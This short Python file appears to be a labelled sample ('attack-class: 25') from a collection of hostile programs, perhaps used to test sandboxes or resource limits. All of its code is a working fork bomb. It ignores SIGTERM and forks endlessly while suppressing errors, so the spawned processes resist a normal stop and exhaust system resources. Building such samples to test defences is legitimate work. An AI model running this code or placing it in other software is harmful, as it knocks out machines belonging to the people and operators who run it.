# attack-class: 25
# title: forked children that ignore SIGTERM
# why: a fork storm that also survives the polite stop signal

import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
